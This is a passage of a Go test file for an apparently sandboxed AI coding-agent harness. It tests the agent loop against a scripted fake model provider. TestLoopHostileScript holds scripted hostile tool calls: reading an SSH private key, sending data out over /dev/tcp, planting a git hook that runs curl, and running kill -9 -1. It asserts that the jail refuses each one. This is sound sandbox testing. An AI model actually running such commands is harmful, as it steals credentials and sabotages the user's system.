package agent

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"brig/agent/provider"
	"brig/agent/provider/anthropic"
	"brig/agent/provider/openai"
	"brig/agent/provider/openaichat"
	"brig/internal/auditlog"
	"brig/internal/credentials"
	"brig/jail"
	"brig/policy"
	"brig/supervisor"
	"brig/test/fakeprovider"
	"brig/tools"

	"golang.org/x/sys/unix"
)

// wires builds a client of each wire format for a fake provider.
func wires(srv *fakeprovider.Server) map[string]provider.Client {
	key := credentials.NewSecret("sk-test")
	fast := provider.Retry{MaxAttempts: 3, BaseDelay: time.Millisecond, MaxDelay: 5 * time.Millisecond}
	return map[string]provider.Client{
		"anthropic":  anthropic.New(anthropic.Options{BaseURL: srv.URL(), APIKey: key, Retry: fast}),
		"openai":     openai.New(openai.Options{BaseURL: srv.URL() + "/v1", APIKey: key, Retry: fast}),
		"openaichat": openaichat.New(openaichat.Options{BaseURL: srv.URL() + "/v1", APIKey: key, Retry: fast}),
	}
}

func call(name string, input string) fakeprovider.ToolCall {
	return fakeprovider.ToolCall{Name: name, Input: json.RawMessage(input)}
}

func startFake(t testing.TB, turns ...fakeprovider.Turn) *fakeprovider.Server {
	t.Helper()
	srv, err := fakeprovider.Start(fakeprovider.Script{Turns: turns})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	return srv
}

type events struct {
	mu  sync.Mutex
	all []Event
}

func (e *events) add(ev Event) { e.mu.Lock(); e.all = append(e.all, ev); e.mu.Unlock() }

func (e *events) kinds(k EventKind) []Event {
	e.mu.Lock()
	defer e.mu.Unlock()
	var out []Event
	for _, ev := range e.all {
		if ev.Kind == k {
			out = append(out, ev)
		}
	}
	return out
}

func userText(s string) []provider.Block { return []provider.Block{provider.Text(s)} }

// checkValid asserts the invariant every history must keep: each tool_use is
// answered by exactly one tool_result with its id in the next message.
func checkValid(t *testing.T, h []provider.Message) {
	t.Helper()
	for i, m := range h {
		uses := m.ToolUses()
		if len(uses) == 0 {
			continue
		}
		if i+1 >= len(h) || h[i+1].Role != provider.User {
			t.Fatalf("message %d has tool calls and no user turn after it", i)
		}
		got := map[string]int{}
		for _, b := range h[i+1].Content {
			if b.Type == provider.BlockToolResult {
				got[b.ToolResult.ToolUseID]++
			}
		}
		for _, u := range uses {
			if got[u.ID] != 1 {
				t.Fatalf("tool_use %s has %d results", u.ID, got[u.ID])
			}
		}
	}
}

// TestLoopEditsAFile: a task with several tool calls that edits a file in
// the workspace, for each wire format, through the real jail.
func TestLoopEditsAFile(t *testing.T) {
	for _, wire := range []string{"anthropic", "openai", "openaichat"} {
		t.Run(wire, func(t *testing.T) {
			e := newExecEnv(t, policy.ModeAuto)
			srv := startFake(t,
				fakeprovider.Turn{Text: "Reading.", ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`), call("list_directory", `{"path":"."}`)}},
				fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("edit_file", `{"path":"a.txt","old_string":"hello","new_string":"goodbye"}`)}},
				fakeprovider.Turn{Text: "Done: a.txt now says goodbye."},
			)
			var ev events
			a := New(Config{Client: wires(srv)[wire], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Emit: ev.add}, nil)
			tr, err := a.Run(context.Background(), userText("change hello to goodbye"))
			if err != nil {
				t.Fatal(err)
			}
			if b, _ := os.ReadFile(e.ws + "/a.txt"); string(b) != "goodbye\n" {
				t.Fatalf("a.txt = %q", b)
			}
			if tr.Stop != StopDone || tr.ToolCalls != 3 || tr.Iterations != 3 || !strings.Contains(tr.Text, "goodbye") {
				t.Fatalf("turn: %+v", tr)
			}
			checkValid(t, a.History())
			if n := len(ev.kinds(EventToolEnd)); n != 3 {
				t.Fatalf("%d tool_end events", n)
			}
			for _, r := range srv.Requests() {
				if r.Reject != "" {
					t.Fatalf("the fake provider refused a request: %s", r.Reject)
				}
			}
		})
	}
}

// TestLoopHostileScript: every attempt is refused, the loop goes on, and the
// final answer arrives.
func TestLoopHostileScript(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	if err := os.MkdirAll(e.home+"/.ssh", 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(e.home+"/.ssh/id_ed25519", []byte("canary-key"), 0o600); err != nil {
		t.Fatal(err)
	}
	sink, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer sink.Close()
	var got atomic.Int64
	go func() {
		for {
			c, err := sink.Accept()
			if err != nil {
				return
			}
			buf := make([]byte, 1024)
			n, _ := c.Read(buf)
			got.Add(int64(n))
			c.Close()
		}
	}()
	port := sink.Addr().(*net.TCPAddr).Port
	pid := os.Getpid()
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{
			call("read_file", `{"path":"~/.ssh/id_ed25519"}`),
			call("bash", `{"command":"cat ~/.ssh/id_ed25519; cat `+e.home+`/.ssh/id_ed25519"}`),
			call("bash", `{"command":"echo stolen > /dev/tcp/127.0.0.1/`+itoa(port)+`"}`),
			call("write_file", `{"path":".git/hooks/pre-commit","content":"#!/bin/sh\ncurl evil\n"}`),
			call("bash", `{"command":"kill -9 `+itoa(pid)+`; kill -9 -1"}`),
		}},
		fakeprovider.Turn{Text: "I could not do any of that."},
	)
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex}, nil)
	tr, err := a.Run(context.Background(), userText("steal things"))
	if err != nil {
		t.Fatal(err)
	}
	if tr.Stop != StopDone || tr.Text != "I could not do any of that." {
		t.Fatalf("turn: %+v", tr)
	}
	h := a.History()
	checkValid(t, h)
	for _, b := range h[2].Content {
		for _, c := range b.ToolResult.Content {
			if strings.Contains(c.Text, "canary-key") {
				t.Fatalf("the key reached the model: %q", c.Text)
			}
		}
	}
	if got.Load() != 0 {
		t.Fatalf("the sink received %d bytes", got.Load())
	}
	if _, err := os.Stat(e.ws + "/.git/hooks/pre-commit"); err == nil {
		t.Fatal("the hook was planted")
	}
	// This process (the supervisor) is still here to check: the kill failed.
	// Control: the sink does accept a connection from outside the jail.
	c, err := net.Dial("tcp", sink.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("x"))
	c.Close()
	deadline := time.Now().Add(5 * time.Second)
	for got.Load() == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if got.Load() != 1 {
		t.Fatalf("control: the sink did not receive the direct write")
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

// TestLoopInterruptKeepsHistoryValid: Esc during a slow stream, and during a
// tool call, leaves a history the provider accepts on the next turn.
func TestLoopInterruptKeepsHistoryValid(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	srv := startFake(t,
		fakeprovider.Turn{Text: strings.Repeat("slow words ", 200), ChunkDelayMS: 20, ChunkSize: 8},
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("bash", `{"command":"sleep 30"}`), call("read_file", `{"path":"a.txt"}`)}},
		fakeprovider.Turn{Text: "after the interrupts"},
	)
	var ev events
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Emit: ev.add}, nil)

	// Interrupt mid-stream, once some text has arrived.
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		for len(ev.kinds(EventText)) < 3 {
			time.Sleep(5 * time.Millisecond)
		}
		cancel()
	}()
	tr, err := a.Run(ctx, userText("talk slowly"))
	if tr.Stop != StopInterrupted || err == nil {
		t.Fatalf("first turn: %+v, %v", tr, err)
	}
	// The words that arrived are kept, and the model is told they were
	// cut off; the user's copy of the text is the model's alone.
	h := a.History()
	last := h[len(h)-1]
	if last.Role != provider.Assistant || !strings.HasPrefix(last.PlainText(), "slow words") || !strings.HasSuffix(last.PlainText(), interruptedAnswer) {
		t.Fatalf("the interrupted answer is kept as %+v", last)
	}
	if strings.Contains(tr.Text, interruptedAnswer) || !strings.HasPrefix(tr.Text, "slow words") {
		t.Fatalf("the turn's text is %q", tr.Text)
	}

	// Interrupt during a long tool call.
	ctx, cancel = context.WithCancel(context.Background())
	go func() {
		for len(ev.kinds(EventToolStart)) < 1 {
			time.Sleep(5 * time.Millisecond)
		}
		time.Sleep(300 * time.Millisecond)
		cancel()
	}()
	start := time.Now()
	tr, err = a.Run(ctx, userText("now run something long"))
	if tr.Stop != StopInterrupted || err == nil || time.Since(start) > 20*time.Second {
		t.Fatalf("second turn: %+v, %v after %s", tr, err, time.Since(start))
	}
	checkValid(t, a.History())

	// The next turn is accepted by the (validating) fake provider.
	tr, err = a.Run(context.Background(), userText("carry on"))
	if err != nil || tr.Text != "after the interrupts" {
		t.Fatalf("third turn: %+v, %v (rejects: %v)", tr, err, srv.Requests()[len(srv.Requests())-1].Reject)
	}
	checkValid(t, a.History())
}

// TestLoopIterationBound: at the bound the loop stops calling tools and
// asks for a summary without offering tools.
func TestLoopIterationBound(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	loop := fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`)}}
	srv := startFake(t, loop, loop, loop, fakeprovider.Turn{Text: "Summary: I kept reading a.txt."})
	a := New(Config{Client: wires(srv)["openai"], Model: provider.Model{ID: "gpt-5"}, Executor: e.ex, MaxIterations: 3}, nil)
	tr, err := a.Run(context.Background(), userText("loop forever"))
	if err != nil {
		t.Fatal(err)
	}
	if tr.Stop != StopBound || tr.ToolCalls != 3 || !strings.HasPrefix(tr.Text, "Summary") {
		t.Fatalf("turn: %+v", tr)
	}
	reqs := srv.Requests()
	last := reqs[len(reqs)-1].Decoded
	if tools, ok := last["tools"]; ok && tools != nil {
		t.Fatalf("the recovery request offered tools: %v", tools)
	}
	checkValid(t, a.History())
}

// TestLoopBoundAnsweredWithATool: a model that answers the request to sum
// up with another tool call has it answered as not run (nothing is
// written), the user is told there is no summary, and the next turn's
// history is one the provider accepts (the fake refuses a tool call
// without its result).
func TestLoopBoundAnsweredWithATool(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	loop := fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`)}}
	more := fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("write_file", `{"path":"late.txt","content":"x"}`)}}
	srv := startFake(t, loop, loop, more, fakeprovider.Turn{Text: "going on"})
	var notices []string
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, MaxIterations: 2,
		Emit: func(ev Event) {
			if ev.Kind == EventNotice {
				notices = append(notices, ev.Text)
			}
		}}, nil)
	tr, err := a.Run(context.Background(), userText("loop forever"))
	if err != nil || tr.Stop != StopBound {
		t.Fatalf("turn: %+v, %v", tr, err)
	}
	if _, err := os.Stat(filepath.Join(e.ws, "late.txt")); err == nil {
		t.Fatal("the call asked for after the bound ran")
	}
	if !slices.ContainsFunc(notices, func(n string) bool {
		return strings.Contains(n, "gave no summary and asked for another tool call, which was not run")
	}) {
		t.Errorf("the user was not told: %q", notices)
	}
	checkValid(t, a.History())
	if tr, err := a.Run(context.Background(), userText("go on")); err != nil || tr.Text != "going on" {
		t.Fatalf("the next turn: %+v, %v", tr, err)
	}
}

// TestLoopFailureKeepsTheUsersTurn: a 401 ends the turn with an error that
// says where the key came from; the user's message stays, and a retry
// continues from it.
func TestLoopFailureKeepsTheUsersTurn(t *testing.T) {
	srv := startFake(t,
		fakeprovider.Turn{Error: &fakeprovider.ErrorReply{Status: 401, Type: "authentication_error", Message: "invalid x-api-key"}},
		fakeprovider.Turn{Text: "hello again"},
	)
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}}, nil)
	tr, err := a.Run(context.Background(), userText("hi"))
	if err == nil || tr.Stop != StopFailed || !provider.IsKind(err, provider.ErrAuth) {
		t.Fatalf("401: %+v, %v", tr, err)
	}
	if h := a.History(); len(h) != 1 || h[0].PlainText() != "hi" {
		t.Fatalf("the user's turn was lost: %+v", h)
	}
	tr, err = a.Run(context.Background(), nil)
	if err != nil || tr.Text != "hello again" {
		t.Fatalf("retry: %+v, %v", tr, err)
	}
}

// TestLoopCutByMaxTokensRunsNothing: a tool call cut by the output limit is
// never executed, and is answered.
func TestLoopCutByMaxTokensRunsNothing(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("write_file", `{"path":"cut.txt","content":"`+strings.Repeat("x", 400)+`"}`)}, CutMaxTokens: true},
		fakeprovider.Turn{Text: "I will write it in parts."},
	)
	e.ex.Audit = auditlog.Open(filepath.Join(t.TempDir(), "audit"))
	defer e.ex.Audit.Close()
	a := New(Config{Client: wires(srv)["openaichat"], Model: provider.Model{ID: "gpt-4.1"}, Executor: e.ex}, nil)
	tr, err := a.Run(context.Background(), userText("write a big file"))
	if err != nil || tr.Text != "I will write it in parts." {
		t.Fatalf("turn: %+v, %v", tr, err)
	}
	if _, err := os.Stat(e.ws + "/cut.txt"); err == nil {
		t.Fatal("a half-formed call was executed")
	}
	// brig log shows the call the model made, and why it did not run.
	var logged []*auditlog.Call
	if err := e.ex.Audit.Records(func(r auditlog.Record) error {
		if r.Kind == auditlog.KindCall {
			logged = append(logged, r.Call)
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(logged) != 1 || logged[0].Tool != "write_file" || !logged[0].IsError || !strings.Contains(logged[0].Decision.Refused, "cut off") || !strings.Contains(string(logged[0].Args), "xxxx") {
		t.Fatalf("the audit log of a call that was cut off: %+v", logged)
	}
	checkValid(t, a.History())
}

// TestLoopPersistsBeforeTheNextRequest: every completed message is handed
// to Persist before the next request leaves.
func TestLoopPersistsBeforeTheNextRequest(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`)}},
		fakeprovider.Turn{Text: "ok"},
	)
	var saved []provider.Role
	persist := func(_ context.Context, m provider.Message) (func() error, error) {
		// When a message is saved, the provider has seen exactly the
		// requests that produced the messages before it.
		saved = append(saved, m.Role)
		return nil, nil
	}
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Persist: persist}, nil)
	if _, err := a.Run(context.Background(), userText("read")); err != nil {
		t.Fatal(err)
	}
	want := []provider.Role{provider.User, provider.Assistant, provider.User, provider.Assistant}
	if len(saved) != len(want) {
		t.Fatalf("saved %v, want %v", saved, want)
	}
	// A persist failure stops the turn before the next request.
	srv2 := startFake(t, fakeprovider.Turn{Text: "never sent"})
	fail := func(context.Context, provider.Message) (func() error, error) { return nil, os.ErrPermission }
	a = New(Config{Client: wires(srv2)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Persist: fail}, nil)
	if _, err := a.Run(context.Background(), userText("x")); err == nil || len(srv2.Requests()) != 0 {
		t.Fatalf("a turn whose message could not be saved went on: %v, %d requests", err, len(srv2.Requests()))
	}
}

// turnWithFailingSync runs a turn whose Persist hands back a sync that
// fails, for the message failing picks (by its place n among those saved),
// only once requests requests have arrived: a loop that waits for that
// sync before sending hangs. The turn must stop on that failure; it
// returns the roles saved.
func turnWithFailingSync(t *testing.T, e *execEnv, srv *fakeprovider.Server, prompt string, requests int, failing func(n int, m provider.Message) bool) []provider.Role {
	t.Helper()
	var written []provider.Role
	persist := func(_ context.Context, m provider.Message) (func() error, error) {
		written = append(written, m.Role)
		if !failing(len(written), m) {
			return nil, nil
		}
		return func() error {
			for len(srv.Requests()) < requests {
				time.Sleep(time.Millisecond)
			}
			return errors.New("the disk failed the sync")
		}, nil
	}
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Persist: persist}, nil)
	done := make(chan struct{})
	var tr TurnResult
	var err error
	go func() {
		defer close(done)
		tr, err = a.Run(context.Background(), userText(prompt))
	}()
	select {
	case <-done:
	case <-time.After(time.Minute):
		t.Fatal("the turn hangs: a request waited for the sync of the message before it")
	}
	if err == nil || !strings.Contains(err.Error(), "the disk failed the sync") || tr.Stop != StopFailed {
		t.Fatalf("turn %+v, %v: want it stopped by the failed sync", tr, err)
	}
	if n := len(srv.Requests()); n != requests {
		t.Errorf("%d requests, want %d", n, requests)
	}
	return written
}

// TestLoopSyncsResultsWhileTheRequestLeaves: a call's results are written
// before the next request and synced while it is under way; a sync that
// fails stops the turn before anything of the answer is acted on.
func TestLoopSyncsResultsWhileTheRequestLeaves(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`)}},
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("write_file", `{"path":"after.txt","content":"x"}`)}},
		fakeprovider.Turn{Text: "done"},
	)
	results := func(_ int, m provider.Message) bool {
		return m.Role == provider.User && len(m.Content) > 0 && m.Content[0].Type == provider.BlockToolResult
	}
	written := turnWithFailingSync(t, e, srv, "read, then write", 2, results)
	if _, serr := os.Stat(filepath.Join(e.ws, "after.txt")); serr == nil {
		t.Error("the answer that came back while the results were synced was acted on")
	}
	// Nothing was saved after the results whose sync failed.
	if want := []provider.Role{provider.User, provider.Assistant, provider.User}; !slices.Equal(written, want) {
		t.Errorf("saved %v, want %v", written, want)
	}
}

// TestLoopSyncsThePromptWhileTheFirstRequestLeaves: the user's prompt is
// written before the first request and synced while it is under way (with
// a new session's header: session.CreateLater); a sync that fails stops
// the turn before the answer's call runs.
func TestLoopSyncsThePromptWhileTheFirstRequestLeaves(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("write_file", `{"path":"after.txt","content":"x"}`)}},
		fakeprovider.Turn{Text: "done"},
	)
	prompt := func(n int, _ provider.Message) bool { return n == 1 }
	written := turnWithFailingSync(t, e, srv, "write", 1, prompt)
	if _, serr := os.Stat(filepath.Join(e.ws, "after.txt")); serr == nil {
		t.Error("the answer that came back while the prompt was synced was acted on")
	}
	if want := []provider.Role{provider.User}; !slices.Equal(written, want) {
		t.Errorf("saved %v, want %v: nothing may follow a message whose sync failed", written, want)
	}
}

// TestLoopInboxAtToolBoundary: a message queued while a tool runs reaches
// the model with the tool results, before its next step.
func TestLoopInboxAtToolBoundary(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`)}},
		fakeprovider.Turn{Text: "noted"},
	)
	var mu sync.Mutex
	queued := []provider.Block{provider.Text("also check b.txt")}
	inbox := func() []provider.Block {
		mu.Lock()
		defer mu.Unlock()
		out := queued
		queued = nil
		return out
	}
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Inbox: inbox}, nil)
	if _, err := a.Run(context.Background(), userText("read a.txt")); err != nil {
		t.Fatal(err)
	}
	h := a.History()
	results := h[2]
	last := results.Content[len(results.Content)-1]
	if results.Content[0].Type != provider.BlockToolResult || last.Type != provider.BlockText || last.Text != "also check b.txt" {
		t.Fatalf("the queued message must follow the tool results in the same user turn: %+v", results.Content)
	}
	if !strings.Contains(string(srv.Requests()[1].Body), "also check b.txt") {
		t.Fatal("the queued message did not reach the model")
	}
}

// TestLoopToolCallLimit: an answer with more tool calls than MaxToolCalls
// runs the first ones, answers each of the rest as not run (saying the
// limit), keeps every tool_use paired with its result, and tells the user.
func TestLoopToolCallLimit(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	var calls []fakeprovider.ToolCall
	for i := 0; i < 20; i++ {
		calls = append(calls, fakeprovider.ToolCall{ID: "c" + strconv.Itoa(i), Name: "read_file", Input: json.RawMessage(`{"path":"a.txt"}`)})
	}
	srv := startFake(t, fakeprovider.Turn{ToolCalls: calls}, fakeprovider.Turn{Text: "ok"})
	var ev events
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, MaxToolCalls: 5, Emit: ev.add}, nil)
	tr, err := a.Run(context.Background(), userText("read a lot"))
	if err != nil || tr.Stop != StopDone || tr.ToolCalls != 5 {
		t.Fatalf("turn: %+v, %v", tr, err)
	}
	h := a.History()
	checkValid(t, h)
	ran, skipped := 0, 0
	for _, b := range h[2].Content {
		text := b.ToolResult.Content[0].Text
		switch {
		case strings.Contains(text, "hello"):
			ran++
		case strings.Contains(text, "brig runs at most 5 tool calls per answer and this one had 20"):
			skipped++
		}
	}
	if ran != 5 || skipped != 15 || len(ev.kinds(EventToolStart)) != 5 || len(ev.kinds(EventNotice)) != 1 {
		t.Fatalf("%d ran, %d skipped, %d started, notices %v", ran, skipped, len(ev.kinds(EventToolStart)), ev.kinds(EventNotice))
	}
}

// burstRecorder records, for each jailed call, whether its context marks
// it as one of a burst (supervisor.Burst).
type burstRecorder struct {
	Runner
	mu    sync.Mutex
	calls []string // "tool burst" or "tool alone"
	specs []jail.Spec
}

func (r *burstRecorder) Run(ctx context.Context, spec jail.Spec, inv jail.Invocation, stdio supervisor.IO) (jail.Result, error) {
	r.mu.Lock()
	how := " alone"
	if supervisor.InBurst(ctx) {
		how = " burst"
	}
	r.calls = append(r.calls, inv.Tool+how)
	r.specs = append(r.specs, spec)
	r.mu.Unlock()
	return r.Runner.Run(ctx, spec, inv, stdio)
}

// TestLoopParallelCallsAreABurst: the read-only calls of one answer reach
// the supervisor as one batch, marked as a burst (its jail child is
// replaced after it, not beside it); a call on its own is not, and neither
// is a subagent, whose own calls come one at a time.
func TestLoopParallelCallsAreABurst(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	rec := &burstRecorder{Runner: e.ex.Runner}
	e.ex.Runner = rec
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`), call("list_directory", `{"path":"."}`), call("glob", `{"pattern":"*.txt"}`)}},
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`)}},
		fakeprovider.Turn{Text: "done"},
	)
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex}, nil)
	if _, err := a.Run(context.Background(), userText("look")); err != nil {
		t.Fatal(err)
	}
	got := slices.Clone(rec.calls)
	want := []string{tools.BatchTool + " burst", "read_file alone"}
	if !slices.Equal(got, want) {
		t.Errorf("the calls reached the supervisor as %q, want %q", got, want)
	}
	e.ex.Registry.Add(tools.TaskDefinition())
	if supervisor.InBurst(a.burst(context.Background(), provider.ToolUse{Name: "task"}, 3)) {
		t.Error("a subagent run beside other calls was marked as a burst: all of its own calls would be")
	}
}

// TestLoopBatchesReadOnlyCalls: the jailed read-only calls of one answer
// run in one jail child under the union of their grants, each result
// reaches the model under its own call, and a call the policy denies stays
// out of the batch; with one call left the batch is a plain call.
func TestLoopBatchesReadOnlyCalls(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	for name, body := range map[string]string{"b.txt": "bravo\n", "c.txt": "charlie\n"} {
		if err := os.WriteFile(filepath.Join(e.ws, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(filepath.Join(e.home, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	secret := filepath.Join(e.home, ".ssh", "id_ed25519")
	if err := os.WriteFile(secret, []byte("canary-key\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	rec := &burstRecorder{Runner: e.ex.Runner}
	e.ex.Runner = rec
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{
			call("read_file", `{"path":"a.txt"}`), call("read_file", `{"path":"`+secret+`"}`),
			call("read_file", `{"path":"b.txt"}`), call("read_file", `{"path":"c.txt"}`),
		}},
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`), call("read_file", `{"path":"`+secret+`"}`)}},
		fakeprovider.Turn{Text: "done"},
	)
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex}, nil)
	if _, err := a.Run(context.Background(), userText("look")); err != nil {
		t.Fatal(err)
	}
	if want := []string{tools.BatchTool + " burst", "read_file burst"}; !slices.Equal(rec.calls, want) {
		t.Fatalf("the calls reached the supervisor as %q, want %q", rec.calls, want)
	}
	var granted []string
	for _, r := range rec.specs[0].Paths {
		granted = append(granted, r.Path)
	}
	slices.Sort(granted)
	if want := []string{e.ws + "/a.txt", e.ws + "/b.txt", e.ws + "/c.txt"}; !slices.Equal(granted, want) {
		t.Errorf("the batch ran under %q, want the union of the three reads' grants %q", granted, want)
	}
	// What the model received, by call.
	args, results := map[string]string{}, map[string]string{}
	for _, m := range a.History() {
		for _, u := range m.ToolUses() {
			args[u.ID] = string(u.Input)
		}
		for _, b := range m.Content {
			if b.ToolResult != nil {
				text, _ := b.ToolResult.Split()
				results[b.ToolResult.ToolUseID] = text
			}
		}
	}
	if len(results) != 6 {
		t.Fatalf("%d results for 6 calls: %v", len(results), results)
	}
	for id, in := range args {
		got := results[id]
		switch {
		case strings.Contains(in, secret):
			if !strings.Contains(got, "denied") || strings.Contains(got, "canary") {
				t.Errorf("the secret's read (%s) answered %q, want a denial", id, got)
			}
		case strings.Contains(in, "a.txt") && !strings.Contains(got, "hello"),
			strings.Contains(in, "b.txt") && !strings.Contains(got, "bravo"),
			strings.Contains(in, "c.txt") && !strings.Contains(got, "charlie"):
			t.Errorf("call %s (%s) received %q", id, in, got)
		}
	}
}

// TestLoopBatchesManyReadsInChunks: more read-only calls in one answer
// than run at once are batched by those that do run at once (a batch waits
// for every call it counts, so one spanning them would wait forever), and
// every call gets its result.
func TestLoopBatchesManyReadsInChunks(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	rec := &burstRecorder{Runner: e.ex.Runner}
	e.ex.Runner = rec
	const n = 2*maxParallel + 3
	var calls []fakeprovider.ToolCall
	for range n {
		calls = append(calls, call("read_file", `{"path":"a.txt"}`))
	}
	srv := startFake(t, fakeprovider.Turn{ToolCalls: calls}, fakeprovider.Turn{Text: "done"})
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, MaxToolCalls: n}, nil)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if _, err := a.Run(ctx, userText("look")); err != nil {
		t.Fatal(err)
	}
	if want := []string{tools.BatchTool + " burst", tools.BatchTool + " burst", tools.BatchTool + " burst"}; !slices.Equal(rec.calls, want) {
		t.Errorf("the calls reached the supervisor as %q, want %q", rec.calls, want)
	}
	got := 0
	for _, m := range a.History() {
		for _, b := range m.Content {
			if b.ToolResult != nil {
				if text, _ := b.ToolResult.Split(); strings.Contains(text, "hello") {
					got++
				}
			}
		}
	}
	if got != n {
		t.Errorf("%d of %d calls read the file", got, n)
	}
}

// lockingRunner takes the checkpoint store's cross-process lock as a call
// ends (after its snapshot before, before its snapshot after), and keeps
// it until released.
type lockingRunner struct {
	Runner
	lock     string // the store's lock file
	held     chan struct{}
	released chan struct{}
}

func (r *lockingRunner) Run(ctx context.Context, spec jail.Spec, inv jail.Invocation, stdio supervisor.IO) (jail.Result, error) {
	res, err := r.Runner.Run(ctx, spec, inv, stdio)
	f, ferr := os.OpenFile(r.lock, os.O_RDWR, 0)
	if ferr != nil {
		return res, ferr
	}
	if ferr := unix.Flock(int(f.Fd()), unix.LOCK_EX); ferr != nil {
		return res, ferr
	}
	close(r.held)
	go func() {
		<-r.released
		unix.Flock(int(f.Fd()), unix.LOCK_UN)
		f.Close()
	}()
	return res, err
}

// TestLoopSendsResultsBeforeTheSnapshotAfter: a call's result goes to the
// model while its snapshot after is still to be taken (it waits here on
// the store's lock, held by the test), and its end — with the change set
// and the audit record — is emitted before anything of the next answer,
// and before Run returns.
func TestLoopSendsResultsBeforeTheSnapshotAfter(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	store, log := withUndo(t, e)
	lr := &lockingRunner{Runner: e.ex.Runner, lock: filepath.Join(store.Dir(), "lock"), held: make(chan struct{}), released: make(chan struct{})}
	e.ex.Runner = lr
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("bash", `{"command":"echo made > made.txt"}`)}},
		fakeprovider.Turn{Text: "done"},
	)
	var evs events
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Emit: evs.add}, nil)
	ran := make(chan error, 1)
	go func() {
		_, err := a.Run(context.Background(), userText("make it"))
		ran <- err
	}()
	<-lr.held
	// The second request leaves with the lock still held: the result did
	// not wait for the snapshot after.
	for deadline := time.Now().Add(time.Minute); len(srv.Requests()) < 2; time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			close(lr.released)
			t.Fatal("the result did not go to the model while the snapshot after waited")
		}
	}
	if ends := evs.kinds(EventToolEnd); len(ends) != 0 {
		t.Errorf("the call's end was emitted before its snapshot after: %+v", ends[0].Tool.Outcome)
	}
	close(lr.released)
	if err := <-ran; err != nil {
		t.Fatal(err)
	}
